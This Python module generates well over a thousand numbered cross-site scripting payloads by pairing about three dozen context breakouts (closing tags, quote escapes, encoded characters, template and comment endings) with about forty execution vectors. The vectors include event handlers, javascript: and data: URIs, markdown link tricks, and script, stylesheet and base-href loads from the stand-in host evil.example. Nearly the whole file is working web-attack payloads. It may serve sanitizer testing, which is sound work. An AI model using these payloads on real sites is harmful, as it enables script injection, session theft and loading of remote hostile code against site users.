"""More than a thousand ways to run a script: every way out of a place in a page, times every way to begin one."""

from __future__ import annotations

OUT = (
    # where the text may stand → what would end that place
    ("", ""), ('"', '"'), ("'", "'"), ('">', ""), ("'>", ""), ("`>", ""), ("-->", "<!--"), ("--!>", ""), ("]]>", "<![CDATA["),
    ("</title>", ""), ("</script>", "<script>"), ("</style>", "<style>"), ("</textarea>", ""), ("</noscript>", ""),
    ("</template>", ""), ("</svg>", ""), ("</math>", ""), ("</select>", ""), ("</iframe>", ""), ("</xmp>", ""),
    ("<!--", ""), ("<![CDATA[", "]]>"), ("<svg><style>", ""), ("<math><mtext><table><mglyph><style>", ""),
    ("<noscript><p title=\"</noscript>", "\">"), ("\\\"", ""), ("\\u0022\\u003e", ""), ("&quot;&gt;", ""), ("&#34;&#62;", ""),
    ("%22%3E", ""), ("\u2028", ""), ("{{", "}}"), ("{% raw %}", "{% endraw %}"), ("${", "}"), ("\u202e", ""), ("\ufeff", ""),
)  # fmt: skip
RUN = (
    "<script>alert({n})</script>",
    "<ScRiPt >alert({n})</sCrIpT\t>",
    "<script src=//evil.example/{n}.js></script>",
    "<script/xss>alert({n})//",
    "<<script>alert({n})//<</script>",
    "<img src=x onerror=alert({n})>",
    "<img/src=x/onerror=alert({n})//",
    "<IMG SRC=\"x\" ONERROR=\"alert({n})\">",
    "<svg onload=alert({n})>",
    "<svg/onload=alert({n})//",
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert({n})\"><text y=9>x</text></a>",
    "<math href=\"javascript:alert({n})\">x</math>",
    "<body onload=alert({n})>",
    "<iframe srcdoc=\"<script>parent.alert({n})</script>\"></iframe>",
    "<iframe src=\"javascript:parent.alert({n})\"></iframe>",
    "<object data=\"data:text/html,<script>parent.alert({n})</script>\"></object>",
    "<embed src=\"javascript:alert({n})\">",
    "<a href=\"javascript:alert({n})\">x</a>",
    "<a href=\"java&#9;script:alert({n})\">x</a>",
    "<a href=\" &#14; javascript:alert({n})\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">{n}</a>",
    "<form action=\"javascript:alert({n})\"><button>x</button></form>",
    "<button formaction=\"javascript:alert({n})\" form=f>x</button>",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=x onerror=alert({n})></audio>",
    "<style>@import '//evil.example/{n}.css';</style>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert({n})\">",
    "<base href=//evil.example/{n}/>",
    " onmouseover=alert({n}) autofocus onfocus=alert({n}) x=",
    " style=animation-name:x onanimationstart=alert({n}) ",
    "javascript:alert({n})",
    "[x](javascript:alert({n}))",
    "[x](<java\tscript:alert({n})>)",
    "[x](data:text/html,<script>alert({n})</script>)",
    "![x](javascript:alert({n}))",
    "![x\" onerror=\"alert({n})](x)",
    "<javascript:alert({n})>",
    "[x]: javascript:alert({n})\n\n[x]",
    "alert({n});//",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each with its number in it."""
    pairs = [(before, run, after) for before, after in OUT for run in RUN]
    return [before + run.replace("{n}", str(n)) + after for n, (before, run, after) in enumerate(pairs)]
